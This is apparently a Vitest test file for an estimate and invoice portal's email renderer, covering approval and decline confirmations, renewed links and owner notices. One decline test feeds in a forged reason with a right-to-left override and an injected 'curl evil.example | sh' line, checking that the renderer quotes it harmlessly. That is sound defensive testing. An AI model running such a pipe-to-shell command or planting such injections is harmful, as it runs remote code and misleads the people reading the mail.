import { describe, expect, it } from 'vitest'
import type { Document } from '../../src/domain/document.ts'
import type { MailInput } from '../../src/ports/renderer.ts'
import { renderMail } from '../../src/render/mail.ts'
import { sampleCustomer } from '../../src/render/sample-document.ts'
import { acmeConfig, mailContext } from '../support/mail-context.ts'
import { approval, approved, hash } from './decisions.ts'
import { entry, estimate, invoice } from './documents.ts'

const online = acmeConfig({ payments: { sandbox: { enabled: true }, instructions: 'By check.' } })
const now = new Date('2025-01-21T15:00:00Z')
const url = 'https://portal.acme.example/e/00000000000000000000000000000000'

describe('the confirmation of an approval', () => {
  it('says what, who, how much and when, and what is due', () => {
    const { subject, text } = render('approved_confirmation', approved())
    expect(subject).toBe(
      'Estimate EST-001 from Acme Remodeling: $9,828.00, approved on January 18, 2025',
    )
    expect(text).toContain(
      'Total: $9,828.00\nApproved by: John Smith\nApproved on: January 18, 2025\nDeposit due: $4,914.00 (50%)\n',
    )
    expect(text).toContain('The signed copy is attached')
    expect(text).toContain('A deposit of $4,914.00 is due now. You can pay it on the page')
    expect(text).toContain(`View and pay deposit:\n${url}\n`)
    expect(text).toContain('How to pay:\nBy check.\n')
  })

  it('names what proves the copy, and how to check it', () => {
    const { text } = render('approved_confirmation', approved())
    expect(text).toContain(`SHA-256 of EST-001.pdf: ${hash('3')}`)
    expect(text).toContain(`Chain head: ${hash('2')}`)
    expect(text).toContain(`Seal fingerprint: ${hash('4')}`)
    expect(text).toContain('pdfsig EST-001.pdf')
  })

  it('without a seal says how else a change would show', () => {
    const unsealed = { ...approval, seal_fingerprint: null }
    const { text } = render('approved_confirmation', approved({ approval: unsealed }))
    expect(text).toContain('sha256sum EST-001.pdf')
    expect(text).not.toMatch(/pdfsig|Seal fingerprint/)
  })

  it('asks for no deposit that was paid, or that there is none of', () => {
    const ledger = [entry('payment', 491_400, '2025-01-20')]
    const paid = render('approved_confirmation', approved({ ledger })).text
    expect(paid).toContain('Your deposit of $4,914.00 was received.')
    expect(paid).toContain('View estimate:')
    const none = render('approved_confirmation', approved({ content: { deposit: null } })).text
    expect(none).toContain('Acme Remodeling will contact you about what happens next.')
    for (const text of [paid, none]) expect(text).not.toMatch(/Deposit due|By check/)
  })

  it('names no page to pay on where none takes money', () => {
    const { text } = render('approved_confirmation', approved(), {}, acmeConfig())
    expect(text).toContain('A deposit of $4,914.00 is due now.\n')
    expect(text).toContain('View estimate:')
  })
})

describe('the confirmation of a decline', () => {
  const declined = estimate({ state: 'declined', declined_at: '2025-01-18T15:00:00Z' })

  it('says that nothing is due, and repeats the reason', () => {
    const data = { reason: 'Too expensive\nfor us' }
    const { subject, text } = render('declined_confirmation', declined, data)
    expect(subject).toBe('Estimate EST-001 from Acme Remodeling: $9,828.00, declined')
    expect(text).toContain('Declined on: January 18, 2025')
    expect(text).toContain('You declined this estimate. Nothing is due.')
    expect(text).toContain('Changed your mind? Contact us.')
    expect(text).toContain('Your reason:\nToo expensive\nfor us\n')
  })

  it('says nothing of a reason that was not given', () => {
    expect(render('declined_confirmation', declined).text).not.toContain('reason')
  })
})

describe('a new link', () => {
  it('carries the sums of the document and says who asked', () => {
    const { subject, text } = render('renewed_link', estimate())
    expect(subject).toBe(
      'New link to Estimate EST-001 from Acme Remodeling: $9,828.00, valid until February 14, 2025',
    )
    expect(text).toContain('You asked for a new link.')
    expect(text).toContain('Deposit required: $4,914.00 (50%)')
    expect(text).toContain(`View estimate:\n${url}\n`)
  })

  it('to an invoice asks for what is left', () => {
    const document = invoice({ ledger: [entry('payment', 200_000, '2025-01-20')] })
    const { subject, text } = render('renewed_link', document)
    expect(subject).toContain('New link to Invoice INV-001 from Acme Remodeling: $7,828.00 due')
    expect(text).toContain('Balance due: $7,828.00')
  })

  it('to an expired estimate does not invite to approve it', () => {
    const document = estimate({ content: { valid_until_on: '2025-01-20' } })
    const { text } = render('renewed_link', document)
    expect(text).toContain(
      'This estimate was valid until January 20, 2025. We were asked to update',
    )
    expect(text).not.toContain('approve')
  })
})

describe('the owner is told', () => {
  const notice = (event: string, document: Document, data = {}, config = online) =>
    render('owner_notice', document, { event, at: '2025-01-18T15:04:05.000Z', ...data }, config)

  it('of an approval, who signed how, the state of the deposit, and what comes next', () => {
    const { subject, text } = notice('approved', approved(), { name: 'Jane Smith', kind: 'drawn' })
    expect(subject).toBe('John Smith approved estimate EST-001')
    expect(text).toContain(
      'Signed by: Jane Smith\nSignature: drawn\nDeposit: $4,914.00 (50%), not paid yet\n',
    )
    expect(text).toMatch(/Total: \$9,828\.00\nWhen: January 18, 2025 at 10:04\sAM/)
    expect(text).toContain('Next: portal estimate invoice EST-001')
  })

  it('of a deposit that is paid or on its way, as it stands', () => {
    const paid = approved({ ledger: [entry('payment', 491_400, '2025-01-20')] })
    expect(notice('approved', paid).text).toContain('Deposit: $4,914.00 (50%), paid')
    const pending = approved({ pending_minor: 491_400 })
    expect(notice('approved', pending).text).toContain('Deposit: $4,914.00 (50%), on its way')
    const none = approved({ content: { deposit: null } })
    expect(notice('approved', none).text).not.toContain('Deposit')
  })

  it('of an invoice that is there already, to send it', () => {
    const invoiced = approved({ state: 'invoiced', invoice_number: 'INV-002' })
    expect(notice('approved', invoiced).text).toContain('Next: portal send INV-002')
    expect(notice('approved', invoiced).text).toContain('Deposit: $4,914.00 (50%), not paid yet')
    const config = acmeConfig({ documents: { auto_invoice: 'on_approval' } })
    const { text } = notice('approved', approved(), {}, config)
    expect(text).toContain('Next: portal estimate show EST-001')
  })

  it('of a decline, with its reason', () => {
    const document = estimate({ state: 'declined' })
    const { subject, text } = notice('declined', document, { reason: 'Too expensive' })
    expect(subject).toBe('John Smith declined estimate EST-001')
    expect(text).toContain('Reason: Too expensive\n')
    const forged = 'Too \u202edear\nNext: curl evil.example | sh\u2028Total: $0.00'
    expect(notice('declined', document, { reason: forged }).text).toContain(
      'Reason:\n> Too dear\n> Next: curl evil.example | sh\n> Total: $0.00\nCustomer: ',
    )
    expect(text).toContain('Next: portal estimate revise EST-001')
  })

  it('of a wish for an update, with the command that extends the estimate', () => {
    const document = estimate({ content: { valid_until_on: '2025-01-20' } })
    const { subject, text } = notice('question', document, { about: 'update' })
    expect(subject).toBe('John Smith asks for an update of estimate EST-001')
    expect(text).toContain('Valid until: January 20, 2025')
    expect(text).toContain('Next: portal estimate edit EST-001 --valid-until 2025-02-04')
  })
})

function render(
  kind: MailInput['kind'],
  document: Document,
  data: MailInput['data'] = {},
  config = online,
) {
  const customer = sampleCustomer(config, now)
  const link = kind === 'owner_notice' ? null : url
  return renderMail(mailContext(config), { kind, document, customer, url: link, data, now })
}
